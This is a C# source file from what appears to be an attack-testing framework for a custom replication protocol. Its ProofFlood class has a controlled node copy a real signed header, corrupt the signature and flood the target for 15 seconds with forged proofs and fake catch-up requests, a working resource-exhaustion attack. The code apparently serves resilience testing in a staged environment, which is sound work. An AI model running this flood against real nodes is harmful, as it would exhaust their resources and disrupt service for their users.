using System.Diagnostics;
using Ripple.Attacks.Nodes;
using Ripple.Attacks.Roles;
using Ripple.Attacks.Stages;
using Ripple.Engine.Protocol;

namespace Ripple.Attacks.Attacks;

/// <summary>
/// A node sends proofs with a true header and a false signature as fast as they are taken: most that nobody asked for, and some that it got
/// asked for by a claim to be ahead. To check one takes a hundred times as long as to send it.
/// </summary>
internal sealed class ProofFlood : Attack
{
    private const int UnaskedEach = 20;
    private const int RoundsAtOnce = 10;
    private static readonly TimeSpan Lasts = TimeSpan.FromSeconds(15);
    private static readonly TimeSpan AnswerMax = TimeSpan.FromSeconds(10);

    public override string Name => "proof-flood";

    public override string What => "a node sends proofs whose signature is false, asked for or not, for 15 s";

    public override IReadOnlyList<string> MemoryLines => ["session", "link: frames", "store", "what is read"];

    private HandNode? Node { get; set; }

    public override async Task PrepareAsync(Stage stage)
    {
        await base.PrepareAsync(stage);
        await stage.PublishAsync("a", "1");
    }

    public override async Task SetUpAsync(Attacker attacker) => Node = await attacker.MemberAsync(Stage.Mallory, Stage.Mallory);

    public override async Task RunAsync(Attacker attacker)
    {
        // A newcomer who has nothing is sent releases; one on another chain is sent the newest state with its signed header.
        Topic topic = Node!.Seat!.Topics.First(t => t.Application == Stage.Target);
        await Node.SendAsync(MessageType.CatchUpRequest, Layouts.CatchUpRequest(topic.Number, 0, 1));
        Frame shown = await Node.ExpectAsync(MessageType.SnapshotBegin, AnswerMax)
            ?? throw new AttackException("The host showed no signed header.");
        (byte[] header, byte[] signature) = Layouts.SnapshotBegin(shown.Body);
        signature[^1] ^= 1;
        byte[] proof = HandNode.Encode(MessageType.Proof, Layouts.Proof(topic.Number, header, signature));
        byte[] ahead = HandNode.Encode(
            MessageType.CatchUpRequest, Layouts.CatchUpRequest(topic.Number, topic.Generation, topic.Release + 1_000));
        byte[] round = [.. ahead, .. Enumerable.Repeat(proof, 1 + UnaskedEach).SelectMany(p => p)];
        byte[] rounds = [.. Enumerable.Repeat(round, RoundsAtOnce).SelectMany(r => r)];
        using var over = CancellationTokenSource.CreateLinkedTokenSource(attacker.Ending);
        over.CancelAfter(Lasts);
        long begin = Stopwatch.GetTimestamp();
        long sent = 0;
        try
        {
            while (Stopwatch.GetElapsedTime(begin) < Lasts)
            {
                await Node.WriteAsync(rounds, over.Token);
                sent += RoundsAtOnce * (1 + UnaskedEach);
            }
        }
        catch (Exception e) when (e is IOException or OperationCanceledException or InvalidOperationException)
        {
            Attacker.Note("stopped", e.Message);
        }

        Attacker.Note("sent", sent);
    }

    public override Task<string?> WatchAsync(Stage stage, Task attacking) => AdminProbe.WatchAsync(stage, attacking);
}
